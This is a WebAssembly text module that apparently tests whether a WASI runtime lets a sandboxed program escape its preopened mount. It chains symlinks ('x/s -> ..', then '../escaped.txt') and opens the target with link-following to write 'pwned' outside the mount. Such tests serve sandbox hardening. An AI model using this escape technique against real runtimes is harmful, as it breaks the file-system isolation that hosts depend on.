;; Tries to leave its writable mount (preopened as fd 4, after the module's own input at fd 3)
;; with raw WASI calls, no libc in between. Makes x/, then links x/s -> .. and x/s/t ->
;; ../escaped.txt (on a POSIX system the second, made through the first, would point next to the
;; mount), then creates t with O_CREAT, following links: through its own t, or through a dangling
;; t that was already in the mount. Prints each call's errno on a line of its own, and writes
;; "pwned" into t when it could open it.
(module
  (import "wasi_snapshot_preview1" "path_create_directory"
    (func $mkdir (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_symlink"
    (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open"
    (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write"
    (func $write (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (global $dir i32 (i32.const 4))
  (data (i32.const 0) "x")
  (data (i32.const 16) "..")
  (data (i32.const 32) "x/s")
  (data (i32.const 48) "../escaped.txt")
  (data (i32.const 80) "x/s/t")
  (data (i32.const 96) "t")
  (data (i32.const 112) "pwned\n")

  ;; Prints n in decimal and a newline on stdout.
  (func $print (param $n i32)
    (local $p i32)
    (local.set $p (i32.const 420))
    (i32.store8 (local.get $p) (i32.const 10))
    (loop $digits
      (local.set $p (i32.sub (local.get $p) (i32.const 1)))
      (i32.store8 (local.get $p)
        (i32.add (i32.const 48) (i32.rem_u (local.get $n) (i32.const 10))))
      (local.set $n (i32.div_u (local.get $n) (i32.const 10)))
      (br_if $digits (local.get $n)))
    (i32.store (i32.const 440) (local.get $p))
    (i32.store (i32.const 444) (i32.sub (i32.const 421) (local.get $p)))
    (drop (call $write (i32.const 1) (i32.const 440) (i32.const 1) (i32.const 448))))

  (func (export "_start")
    (local $errno i32)
    (call $print (call $mkdir (global.get $dir) (i32.const 0) (i32.const 1)))
    (call $print (call $symlink (i32.const 16) (i32.const 2) (global.get $dir) (i32.const 32) (i32.const 3)))
    (call $print (call $symlink (i32.const 48) (i32.const 14) (global.get $dir) (i32.const 80) (i32.const 5)))
    ;; dirflags 1: follow symlinks; oflags 1: create; rights: read and write.
    (local.set $errno
      (call $open (global.get $dir) (i32.const 1) (i32.const 96) (i32.const 1) (i32.const 1)
        (i64.const 0x1fffffff) (i64.const 0x1fffffff) (i32.const 0) (i32.const 300)))
    (call $print (local.get $errno))
    (if (i32.eqz (local.get $errno))
      (then
        (i32.store (i32.const 200) (i32.const 112))
        (i32.store (i32.const 204) (i32.const 6))
        (drop (call $write (i32.load (i32.const 300)) (i32.const 200) (i32.const 1) (i32.const 304)))))))
